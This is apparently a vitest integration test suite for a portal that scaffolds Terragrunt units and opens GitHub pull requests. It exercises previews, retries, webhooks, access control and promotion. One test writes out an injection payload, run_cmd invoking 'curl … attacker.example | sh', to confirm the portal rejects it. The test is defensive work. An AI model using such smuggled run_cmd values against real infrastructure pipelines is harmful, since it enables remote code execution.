import { execFile } from "node:child_process";
import { mkdtemp, rm } from "node:fs/promises";
import http from "node:http";
import type { AddressInfo } from "node:net";
import os from "node:os";
import path from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { connectTestDb } from "@/test/db";
import { seedDemoData } from "@/prisma/seed-demo-data";
import { startGithubEmulator, type GithubEmulator } from "@/emulators/github/server";
import { seedGithubRepos } from "@/emulators/github/seed/index";
import type { Viewer } from "@/lib/platform/auth/roles";
import { createGithubApp, getRepoOctokit } from "@/lib/platform/github/github-app";
import { verifyWebhook } from "@/lib/platform/github/verify-webhook";
import { getWorkloadDetail } from "@/lib/workloads";
import { scanWorkloadRepo } from "@/lib/estate/scan-workload-repo";
import { createDisabledNoticeChannels } from "@/lib/estate/adapters/disabled-notice-channels";
import { createPrismaEstateStore } from "@/lib/estate/adapters/prisma-estate-store";
import { createWorkloadsRepoFiles } from "@/lib/estate/adapters/workloads-repo-files";
import { createGithubConsumerRepoReader } from "@/lib/workloads/adapters/github-consumer-repo-reader";
import { createPrismaWorkloadStore } from "@/lib/workloads/adapters/prisma-workload-store";
import { seedCatalogueFixture } from "@/test/seed-catalogue-fixture";
import { createGithubPullRequestPublisher } from "./adapters/github-pull-request-publisher";
import { createPrismaModuleVersionReader } from "./adapters/prisma-module-version-reader";
import { createPrismaScaffoldStore } from "./adapters/prisma-scaffold-store";
import { createScaffold } from "./create-scaffold";
import { findModuleVersionId } from "./find-module-version-id";
import { getScaffold } from "./get-scaffold";
import { listScaffolds } from "./list-scaffolds";
import { getScaffoldFormContext } from "./get-scaffold-form-context";
import { handlePullRequestWebhook } from "./handle-pull-request-webhook";
import type { PullRequestPublisher, ScaffoldDeps } from "./ports";
import { previewScaffold } from "./preview-scaffold";
import { previewPromotion, promoteUnit } from "./promote-unit";
import { retryScaffold } from "./retry-scaffold";

// github-app.ts is marked server-only for Next; in vitest there is no react-server condition.
vi.mock("server-only", () => ({}));

const exec = promisify(execFile);
const ORG = "acme-platform";
const db = connectTestDb();
const run = Math.random().toString(36).slice(2, 7);

let stateDir: string;
let emulator: GithubEmulator;
let receiver: http.Server;
let deps: ScaffoldDeps;
let realPublisher: PullRequestPublisher;
let versions: Record<string, string>;
const handled: Array<{ status: number; outcome: string | null }> = [];

const dave: Viewer = { id: "0d0d0d00-0000-4000-8000-000000000004", username: "dave", name: "Dave", email: null, role: "builder", workloads: [] };
const alice: Viewer = { id: "0b0a11ce-0000-4000-8000-000000000001", username: "alice", name: "Alice Builder", email: null, role: "builder", workloads: [{ slug: "payments", name: "Payments", role: "builder" }] };

async function control(route: string, init: { method?: string; body?: unknown } = {}): Promise<unknown> {
  const response = await fetch(`${emulator.url}/__emulator${route}`, {
    method: init.method ?? "GET",
    headers: { "content-type": "application/json" },
    body: init.body === undefined ? undefined : JSON.stringify(init.body),
  });
  if (!response.ok) throw new Error(`${route}: ${response.status} ${await response.text()}`);
  return response.status === 204 ? null : response.json();
}

type EmulatorPull = { repo: string; number: number; headRef: string; state: string; labels?: unknown; requestedTeams?: unknown };
const pullsFor = async (branch: string) => ((await control(`/pulls?repo=${ORG}/payments-infra`)) as EmulatorPull[]).filter((p) => p.headRef === branch);

async function gitShow(ref: string, file: string): Promise<string> {
  const { stdout } = await exec("git", ["-C", path.join(stateDir, "repos", ORG, "payments-infra.git"), "show", `${ref}:${file}`]);
  return stdout;
}

const queueInput = (unitName: string, extra: Record<string, unknown> = {}) => ({
  workload: "payments",
  moduleVersionId: versions["sqs-queue@1.2.0"]!,
  env: "dev" as const,
  region: "eu-west-1",
  unitName,
  style: "terragrunt" as const,
  values: { name: `payments-${unitName}`, visibility_timeout_seconds: 90, ...extra },
});

beforeAll(async () => {
  await seedDemoData(db);
  stateDir = await mkdtemp(path.join(os.tmpdir(), "scaffold-it-"));
  await seedGithubRepos({ reposDir: path.join(stateDir, "repos"), org: ORG });

  // The emulator's signed deliveries come here: verified on the raw body, then handled, as the route does.
  receiver = http.createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on("data", (c: Buffer) => chunks.push(c));
    req.on("end", () => {
      const headers = new Headers();
      for (const [k, v] of Object.entries(req.headers)) if (typeof v === "string") headers.set(k, v);
      verifyWebhook({ secret: emulator.webhookSecret, headers, rawBody: Buffer.concat(chunks).toString("utf8") })
        .then((event) => handlePullRequestWebhook(deps, event))
        .then(
          (outcome) => {
            handled.push({ status: 202, outcome });
            res.writeHead(202).end();
          },
          (error: unknown) => {
            handled.push({ status: 401, outcome: String(error) });
            res.writeHead(401).end();
          },
        );
    });
  });
  await new Promise<void>((resolve) => receiver.listen(0, "127.0.0.1", resolve));
  const webhookUrl = `http://127.0.0.1:${(receiver.address() as AddressInfo).port}/api/github/webhooks`;
  emulator = await startGithubEmulator({ port: 0, stateDir, webhookUrl });

  const app = createGithubApp({ appId: String(emulator.appId), privateKey: emulator.appPrivateKeyPem, webhookSecret: emulator.webhookSecret, apiUrl: emulator.apiUrl, gitUrl: emulator.gitUrl, org: ORG });
  const getOctokit = (owner: string, repo: string) => getRepoOctokit(app, owner, repo);
  realPublisher = createGithubPullRequestPublisher({ getOctokit });
  deps = {
    store: createPrismaScaffoldStore(db),
    versions: createPrismaModuleVersionReader(db),
    workloads: { store: createPrismaWorkloadStore(db), repos: createGithubConsumerRepoReader({ getOctokit }) },
    publisher: realPublisher,
    config: { gitUrl: emulator.gitUrl, publicUrl: "http://portal.test" },
  };
  versions = await seedCatalogueFixture({
    db,
    repoDir: path.join(stateDir, "repos", ORG, "iac-modules.git"),
    owner: ORG,
    repo: "iac-modules",
    modules: { vpc: ["1.0.0", "1.1.0", "1.2.0"], "sqs-queue": ["1.0.0", "1.2.0"] },
  });
}, 120_000);

afterAll(async () => {
  await emulator?.close();
  await new Promise<void>((resolve) => receiver?.close(() => resolve()));
  await db.$disconnect();
  if (stateDir) await rm(stateDir, { recursive: true, force: true });
});

describe("scaffold into payments-infra", () => {
  it("previews, then opens a PR whose branch holds exactly the previewed file", async () => {
    const input = queueInput(`jobs-${run}`);
    const preview = await previewScaffold(deps, alice, input);
    if (!preview.ok) throw new Error(JSON.stringify(preview.fieldErrors));
    expect(preview.collision).toBeNull();
    const file = preview.files[0]!;
    expect(file.path).toBe(`dev/eu-west-1/jobs-${run}/terragrunt.hcl`);
    expect(file.before).toBeNull();
    expect(file.content).toContain(`source = "git::${emulator.gitUrl}/${ORG}/iac-modules.git//modules/sqs-queue?ref=sqs-queue/v1.2.0"`);
    expect(file.diff).toMatch(/^--- \/dev\/null\n\+\+\+ b\/dev\/eu-west-1\/jobs-/);

    const outcome = await createScaffold(deps, alice, { ...input, idempotencyKey: `key-create-${run}`, mode: "create" });
    expect(outcome.failureMessage).toBeNull();
    expect(outcome.state).toBe("pr_open");
    const view = await getScaffold(deps, alice, { id: outcome.id });
    expect(view.branch).toMatch(new RegExp(`^bulkhead/jobs-${run}-dev-[0-9a-f]{8}$`));
    expect(await gitShow(view.branch, file.path)).toBe(file.content);
    const pulls = await pullsFor(view.branch);
    expect(pulls).toHaveLength(1);
    expect(JSON.stringify(pulls[0])).toContain("module:sqs-queue");
    expect(JSON.stringify(pulls[0])).toContain("payments-team");

    const audit = await db.auditEvent.findMany({ where: { subjectId: outcome.id }, orderBy: { id: "asc" } });
    expect(audit.map((a) => a.action)).toEqual(["scaffold.create", "scaffold.pr_open"]);
    // The timeline's "Pull request #n opened" has its time.
    expect(view.prOpenedAt).not.toBeNull();
    expect(Date.parse(view.prOpenedAt!)).toBeGreaterThanOrEqual(audit[0]!.at.getTime());
    expect(Date.parse(view.prOpenedAt!)).toBeLessThanOrEqual(audit[1]!.at.getTime());
  });

  it("reports invalid inputs as field errors, and refuses workloads the builder is not in", async () => {
    const preview = await previewScaffold(deps, alice, queueInput(`bad-${run}`, { name: "has spaces!", visibility_timeout_seconds: "90" }));
    expect(preview.ok).toBe(false);
    if (preview.ok) return;
    expect(preview.fieldErrors.map((f) => f.path).sort()).toEqual(["name", "visibility_timeout_seconds"]);
    await expect(previewScaffold(deps, alice, { ...queueInput(`x-${run}`), workload: "ledger" })).rejects.toMatchObject({ code: "FORBIDDEN" });
  });

  it("refuses the security review's attack payload, as a plain value and as a reference, and opens no PR", async () => {
    // The exact payload of issue 8: a run_cmd posted as an ordinary input.
    const attack = { __expr: 'run_cmd("sh", "-c", "curl -s http://attacker.example/x | sh")' };
    const pullsBefore = ((await control(`/pulls?repo=${ORG}/payments-infra`)) as EmulatorPull[]).length;
    const plain = { ...queueInput(`attack-${run}`, { name: attack }), idempotencyKey: `key-attack-${run}`, mode: "create" as const };
    await expect(createScaffold(deps, alice, plain)).rejects.toMatchObject({
      code: "INVALID_INPUT",
      fieldErrors: [{ path: "name", message: expect.stringMatching(/^This field takes a plain value/) }],
    });
    const asReference = { ...plain, references: ["name"], idempotencyKey: `key-attack-ref-${run}` };
    await expect(createScaffold(deps, alice, asReference)).rejects.toMatchObject({
      code: "INVALID_INPUT",
      fieldErrors: [{ path: "name", message: expect.stringMatching(/^The function run_cmd\(\) is not allowed/) }],
    });
    const preview = await previewScaffold(deps, alice, asReference);
    expect(preview).toMatchObject({ ok: false, fieldErrors: [{ path: "name" }] });
    expect(await db.scaffoldRequest.count({ where: { idempotencyKey: { in: [plain.idempotencyKey, asReference.idempotencyKey] } } })).toBe(0);
    expect(((await control(`/pulls?repo=${ORG}/payments-infra`)) as EmulatorPull[]).length).toBe(pullsBefore);
    await expect(exec("git", ["-C", path.join(stateDir, "repos", ORG, "payments-infra.git"), "grep", "-q", "run_cmd", "--all"]).catch(() => "absent")).resolves.toBe("absent");
  });

  it("writes an allowed reference where the builder switched the field, and refuses one to a unit that is not there", async () => {
    const input = queueInput(`ref-${run}`, { name: { __expr: "dependency.vpc /* sibling */ .outputs.vpc_id" } });
    const preview = await previewScaffold(deps, alice, { ...input, references: ["name"] });
    if (!preview.ok) throw new Error(JSON.stringify(preview.fieldErrors));
    expect(preview.files[0]!.content).toContain('dependency "vpc" {\n  config_path = "../vpc"\n}');
    expect(preview.files[0]!.content).toMatch(/name +?= dependency\.vpc\.outputs\.vpc_id\n/);
    const missing = await previewScaffold(deps, alice, { ...queueInput(`ref2-${run}`, { name: { __expr: "dependency.network.outputs.id" } }), references: ["name"] });
    expect(missing).toMatchObject({ ok: false, fieldErrors: [{ path: "name", message: expect.stringMatching(/^There is no unit "network" in dev\/eu-west-1\/ to read outputs from \(units there: .*vpc/) }] });
  });

  it("lets dave, in no workload, see the workload and its units but not its requests' inputs and files (issue 8)", async () => {
    const outcome = await createScaffold(deps, alice, { ...queueInput(`private-${run}`, { name: `payments-private-${run}` }), idempotencyKey: `key-private-${run}`, mode: "create" });
    await expect(getScaffold(deps, dave, { id: outcome.id })).rejects.toMatchObject({ code: "FORBIDDEN" });
    const listed = await listScaffolds(deps, dave, { workload: "payments", pageSize: 100 });
    expect(listed.scaffolds.find((s) => s.id === outcome.id)).toMatchObject({ detailsVisible: false, inputs: {}, files: [], prNumber: outcome.prNumber });
    expect(JSON.stringify(listed)).not.toContain(`payments-private-${run}`);
    const overview = await getWorkloadDetail(deps.workloads, dave, { slug: "payments" });
    expect(overview).toMatchObject({ canEdit: false, yourRole: null });
    expect(overview.units.length).toBeGreaterThan(0);
  });

  it("detects a collision with an existing unit and updates it only when asked", async () => {
    const input = { ...queueInput("orders-queue"), moduleVersionId: versions["sqs-queue@1.2.0"]!, values: { name: "payments-orders-dev", visibility_timeout_seconds: 120, max_receive_count: 3 } };
    const preview = await previewScaffold(deps, alice, input);
    if (!preview.ok) throw new Error(JSON.stringify(preview.fieldErrors));
    expect(preview.collision).toMatchObject({ unitPath: "dev/eu-west-1/orders-queue/terragrunt.hcl", ref: "sqs-queue/v1.0.0" });
    const before = preview.files[0]!.before!;
    // Same inputs, new version: only ?ref= changes, the rest of the file is kept byte for byte.
    expect(preview.files[0]!.content).toBe(before.replace("?ref=sqs-queue/v1.0.0", "?ref=sqs-queue/v1.2.0"));
    expect(preview.files[0]!.diff).toContain("-  source = \"git::https://github.com/");
    await expect(createScaffold(deps, alice, { ...input, idempotencyKey: `key-collide-${run}`, mode: "create" })).rejects.toMatchObject({ code: "CONFLICT" });
    const updated = await createScaffold(deps, alice, { ...input, idempotencyKey: `key-update-${run}`, mode: "update" });
    expect(updated.state).toBe("pr_open");
    const view = await getScaffold(deps, alice, { id: updated.id });
    expect(view.kind).toBe("update");
    expect(await gitShow(view.branch, "dev/eu-west-1/orders-queue/terragrunt.hcl")).toBe(preview.files[0]!.content);
  });

  it("resumes after a crash between commit and PR: same branch and commit, exactly one PR", async () => {
    let crashes = 1;
    deps.publisher = {
      ...realPublisher,
      async openPullRequest(repo, options) {
        // The process "dies" right after GitHub created the PR, before the checkpoint is written.
        const pull = await realPublisher.openPullRequest(repo, options);
        if (crashes-- > 0) throw new Error("simulated crash after POST /pulls");
        return pull;
      },
    };
    try {
      const first = await createScaffold(deps, alice, { ...queueInput(`crash-${run}`), idempotencyKey: `key-crash-${run}`, mode: "create" });
      expect(first.state).toBe("failed");
      expect(first.failedStep).toBe("pull");
      const failed = await deps.store.findScaffold(first.id);
      expect(failed?.steps.commit?.sha).toMatch(/^[0-9a-f]{40}$/);

      const retried = await retryScaffold(deps, alice, { id: first.id });
      expect(retried.state).toBe("pr_open");
      const record = (await deps.store.findScaffold(first.id))!;
      expect(record.commitSha).toBe(failed!.steps.commit!.sha);
      expect(record.steps.pull?.reused).toBe(true);
      expect(await pullsFor(record.branch)).toHaveLength(1);
      const actions = (await db.auditEvent.findMany({ where: { subjectId: first.id }, orderBy: { id: "asc" } })).map((a) => a.action);
      expect(actions).toEqual(["scaffold.create", "scaffold.failed", "scaffold.retry", "scaffold.pr_open"]);
    } finally {
      deps.publisher = realPublisher;
    }
  });

  it("retries a PR step GitHub failed (injected 502 on POST /pulls) without a second commit", async () => {
    await control("/faults", { method: "POST", body: { match: { method: "POST", pathPattern: "/pulls$" }, status: 502 } });
    const first = await createScaffold(deps, alice, { ...queueInput(`fault-${run}`), idempotencyKey: `key-fault-${run}`, mode: "create" });
    expect(first).toMatchObject({ state: "failed", failedStep: "pull" });
    expect(first.failureMessage).toMatch(/internal error \(502\)/);
    const commit = (await deps.store.findScaffold(first.id))!.commitSha;
    const again = await createScaffold(deps, alice, { ...queueInput(`fault-${run}`), idempotencyKey: `key-fault-${run}`, mode: "create" });
    expect(again).toMatchObject({ id: first.id, state: "pr_open" });
    const record = (await deps.store.findScaffold(first.id))!;
    expect(record.commitSha).toBe(commit);
    expect(await pullsFor(record.branch)).toHaveLength(1);
  });

  it("turns a double submit with one idempotency key into one request and one PR", async () => {
    const input = { ...queueInput(`double-${run}`), idempotencyKey: `key-double-${run}`, mode: "create" as const };
    const [a, b] = await Promise.all([createScaffold(deps, alice, input), createScaffold(deps, alice, input)]);
    expect(a.id).toBe(b.id);
    expect([a.state, b.state]).toEqual(["pr_open", "pr_open"]);
    expect(await db.scaffoldRequest.count({ where: { idempotencyKey: input.idempotencyKey } })).toBe(1);
    const record = (await deps.store.findScaffold(a.id))!;
    expect(await pullsFor(record.branch)).toHaveLength(1);
  });

  it("opens the PR and records a warning when GitHub refuses the team reviewers (422)", async () => {
    // Without a grant on the repo, GitHub answers 422 "Reviews may only be requested from collaborators".
    await control(`/orgs/${ORG}/teams/payments-team`, { method: "PUT", body: { repos: {} } });
    try {
      const outcome = await createScaffold(deps, alice, { ...queueInput(`noreview-${run}`), idempotencyKey: `key-noreview-${run}`, mode: "create" });
      expect(outcome).toMatchObject({ state: "pr_open", failedStep: null, failureMessage: null });
      const view = await getScaffold(deps, alice, { id: outcome.id });
      expect(view.reviewerWarning).toMatch(/GitHub refused to request reviewers in acme-platform\/payments-infra/);
      expect(await pullsFor(view.branch)).toHaveLength(1);
    } finally {
      await control(`/orgs/${ORG}/teams/payments-team`, { method: "PUT", body: { repos: { "payments-infra": "push" } } });
    }
  });

  it("fails with an actionable message when the App may not write to the repo", async () => {
    await control("/access", { method: "POST", body: { repo: `${ORG}/payments-infra`, writable: false } });
    try {
      const outcome = await createScaffold(deps, alice, { ...queueInput(`denied-${run}`), idempotencyKey: `key-denied-${run}`, mode: "create" });
      expect(outcome.state).toBe("failed");
      expect(outcome.failedStep).toBe("commit");
      expect(outcome.failureMessage).toContain(`The Bulkhead GitHub App lacks contents:write on ${ORG}/payments-infra — ask an org owner to approve the permission`);
    } finally {
      await control("/access", { method: "POST", body: { repo: `${ORG}/payments-infra`, writable: true } });
    }
  });
});

describe("pull_request webhooks", () => {
  it("rejects a body whose signature does not match", async () => {
    const headers = new Headers({ "x-github-event": "pull_request", "x-hub-signature-256": "sha256=" + "0".repeat(64) });
    await expect(verifyWebhook({ secret: emulator.webhookSecret, headers, rawBody: '{"action":"closed"}' })).rejects.toMatchObject({ code: "UNAUTHENTICATED" });
  });

  it("records the consumption when the emulator merges the PR, and promotes the unit to stage", async () => {
    const unit = `merged-${run}`;
    const outcome = await createScaffold(deps, alice, { ...queueInput(unit), idempotencyKey: `key-merge-${run}`, mode: "create" });
    expect(outcome.state).toBe("pr_open");
    const merge = (await control(`/repos/${ORG}/payments-infra/pulls/${outcome.prNumber}/merge`, { method: "POST" })) as { sha: string };
    await control("/deliveries");
    const view = await getScaffold(deps, alice, { id: outcome.id });
    expect(view.state).toBe("merged");
    expect(view.mergeCommitSha).toBe(merge.sha);
    expect(handled.some((h) => h.status === 202 && h.outcome === `scaffold ${outcome.id} merged`)).toBe(true);
    const workload = await db.workload.findUniqueOrThrow({ where: { slug: "payments" } });
    const consumption = await db.consumption.findFirstOrThrow({ where: { workloadId: workload.id, file: `dev/eu-west-1/${unit}/terragrunt.hcl`, endedAt: null } });
    expect(consumption).toMatchObject({ recordedBy: "scaffold", commitSha: merge.sha, moduleVersionId: versions["sqs-queue@1.2.0"], ref: "sqs-queue/v1.2.0", scaffoldRequestId: outcome.id });

    const detail = await getWorkloadDetail(deps.workloads, alice, { slug: "payments" });
    const row = detail.units.find((u) => u.unitPath === `dev/eu-west-1/${unit}/terragrunt.hcl`);
    expect(row).toMatchObject({ version: "1.2.0", module: { name: "sqs-queue" }, promoteTo: "stage", consumption: { recordedBy: "scaffold", commitSha: merge.sha } });

    const promoted = await promoteUnit(deps, alice, { workload: "payments", unitPath: `dev/eu-west-1/${unit}/terragrunt.hcl`, toEnv: "stage", idempotencyKey: `key-promote-${run}` });
    expect(promoted.state).toBe("pr_open");
    const promotion = await getScaffold(deps, alice, { id: promoted.id });
    expect(promotion).toMatchObject({ kind: "promote", env: "stage", unitPath: `stage/eu-west-1/${unit}/terragrunt.hcl`, promotedFromId: outcome.id });
    const devFile = await gitShow("main", `dev/eu-west-1/${unit}/terragrunt.hcl`);
    expect(await gitShow(promotion.branch, `stage/eu-west-1/${unit}/terragrunt.hcl`)).toBe(devFile);
    await expect(promoteUnit(deps, alice, { workload: "payments", unitPath: `dev/eu-west-1/${unit}/terragrunt.hcl`, toEnv: "prod", idempotencyKey: `key-skip-${run}` })).rejects.toMatchObject({ code: "INVALID_INPUT" });
  });

  it("promotes with env-specific inputs re-rendered and validated, replacing an existing unit only when asked", async () => {
    const request = {
      workload: "payments",
      unitPath: "dev/eu-west-1/orders-queue/terragrunt.hcl",
      toEnv: "stage" as const,
      moduleVersionId: versions["sqs-queue@1.2.0"],
      inputs: { name: `payments-orders-stage-${run}`, visibility_timeout_seconds: 300 },
    };
    // The seeded repo already has stage/eu-west-1/orders-queue, with stage's own inputs.
    await expect(promoteUnit(deps, alice, { ...request, idempotencyKey: `key-promote-noreplace-${run}` })).rejects.toMatchObject({
      code: "CONFLICT",
      fieldErrors: [{ path: "replaceExisting" }],
    });
    // The review shows the file to be written and its diff against dev's file, and writes nothing.
    const allPulls = async () => ((await control(`/pulls?repo=${ORG}/payments-infra`)) as EmulatorPull[]).length;
    const pullsBefore = await allPulls();
    const preview = await previewPromotion(deps, alice, { ...request, replaceExisting: true, idempotencyKey: `key-promote-inputs-${run}` });
    expect(preview).toMatchObject({ unitPath: "stage/eu-west-1/orders-queue/terragrunt.hcl", sourcePath: request.unitPath, version: "1.2.0" });
    expect(preview.content).toContain(`payments-orders-stage-${run}`);
    expect(preview.diffFromSource).toMatch(/^--- a\/dev\/eu-west-1\/orders-queue\/terragrunt\.hcl\n\+\+\+ b\/stage\/eu-west-1\/orders-queue\/terragrunt\.hcl\n@@ /);
    expect(preview.diffFromSource).toContain(`+  name`);
    expect(preview.existing?.diff).toMatch(/^--- a\/stage\/eu-west-1\/orders-queue\/terragrunt\.hcl\n/);
    await expect(previewPromotion(deps, alice, { ...request, idempotencyKey: `key-preview-noreplace-${run}` })).rejects.toMatchObject({ code: "CONFLICT" });
    await expect(previewPromotion(deps, dave, { ...request, replaceExisting: true, idempotencyKey: `key-preview-dave-${run}` })).rejects.toMatchObject({ code: "FORBIDDEN" });
    expect(await allPulls()).toBe(pullsBefore);

    const promoted = await promoteUnit(deps, alice, { ...request, replaceExisting: true, idempotencyKey: `key-promote-inputs-${run}` });
    expect(promoted.state).toBe("pr_open");
    const view = await getScaffold(deps, alice, { id: promoted.id });
    const text = await gitShow(view.branch, "stage/eu-west-1/orders-queue/terragrunt.hcl");
    expect(text).toBe(preview.content);
    expect(text).toContain(`payments-orders-stage-${run}`);
    expect(text).toContain("?ref=sqs-queue/v1.2.0");
    await expect(
      promoteUnit(deps, alice, { workload: "payments", unitPath: "dev/eu-west-1/orders-queue/terragrunt.hcl", toEnv: "stage", inputs: { name: "bad name!" }, idempotencyKey: `key-promote-bad-${run}` }),
    ).rejects.toMatchObject({ code: "INVALID_INPUT", fieldErrors: [{ path: "name" }] });
  });

  it("marks a PR closed without merging as closed, and ignores PRs that are not ours", async () => {
    const outcome = await createScaffold(deps, alice, { ...queueInput(`closed-${run}`), idempotencyKey: `key-close-${run}`, mode: "create" });
    await control(`/repos/${ORG}/payments-infra/pulls/${outcome.prNumber}/close`, { method: "POST" });
    await control("/deliveries");
    expect((await getScaffold(deps, alice, { id: outcome.id })).state).toBe("closed");
    const foreign = await handlePullRequestWebhook(deps, {
      id: "x",
      name: "pull_request",
      payload: { action: "closed", repository: { full_name: `${ORG}/payments-infra` }, pull_request: { number: 99_999, merged: true, merge_commit_sha: "f".repeat(40), head: { ref: "feature/x" } } },
    });
    expect(foreign).toBeNull();
  });
});

describe("scaffolds and the estate scan", () => {
  it("keeps the scaffold attribution of a merged unit when the consumer repo is scanned", async () => {
    const estate = { store: createPrismaEstateStore(db), repos: createWorkloadsRepoFiles(deps.workloads.repos), channels: createDisabledNoticeChannels(), now: () => new Date(), config: { publicUrl: "http://portal.test", registryHosts: ["portal.test"], envs: ["dev", "stage", "prod"] } };
    const workload = await db.workload.findUniqueOrThrow({ where: { slug: "payments" } });
    const result = await scanWorkloadRepo(estate, { target: { workloadId: workload.id, slug: "payments", name: workload.name, repo: { owner: ORG, repo: "payments-infra" } } });
    expect(result.units).toBeGreaterThan(3);
    const rows = await db.consumption.findMany({ where: { workloadId: workload.id, endedAt: null } });
    // The merged scaffold keeps its attribution: nobody changed that unit since.
    expect(rows.find((r) => r.file === `dev/eu-west-1/merged-${run}/terragrunt.hcl`)).toMatchObject({ recordedBy: "scaffold" });
  });
});

describe("the scaffold form", () => {
  it("loads by module version id, with the variables from the catalogue's docs and the viewer's workloads", async () => {
    const context = await getScaffoldFormContext(deps, alice, { moduleVersionId: versions["sqs-queue@1.2.0"]! });
    expect(context.version).toMatchObject({ id: versions["sqs-queue@1.2.0"], version: "1.2.0", tag: "sqs-queue/v1.2.0" });
    expect(context.variables.map((v) => v.name)).toContain("visibility_timeout_seconds");
    expect(context.workloads.map((w) => w.slug)).toEqual(["payments"]);
    expect(context.workloads[0]!.regionsByEnv.dev).toContain("eu-west-1");
    await expect(getScaffoldFormContext(deps, alice, { moduleVersionId: "not-a-uuid" })).rejects.toMatchObject({ code: "NOT_FOUND" });
  });

  it("finds the version an older link names by module id or by source and name", async () => {
    const version = versions["vpc@1.1.0"]!;
    const moduleId = (await db.moduleVersion.findUniqueOrThrow({ where: { id: version } })).moduleId;
    expect(await findModuleVersionId(deps, { moduleId, version: "1.1.0" })).toBe(version);
    expect(await findModuleVersionId(deps, { source: { owner: ORG.toUpperCase(), repo: "iac-modules" }, module: "vpc", version: "v1.1.0" })).toBe(version);
    expect(await findModuleVersionId(deps, { source: { owner: ORG, repo: "iac-modules" }, module: "vpc", version: "9.9.9" })).toBeNull();
    expect(await findModuleVersionId(deps, { moduleId: "nope", version: "1.1.0" })).toBeNull();
  });
});
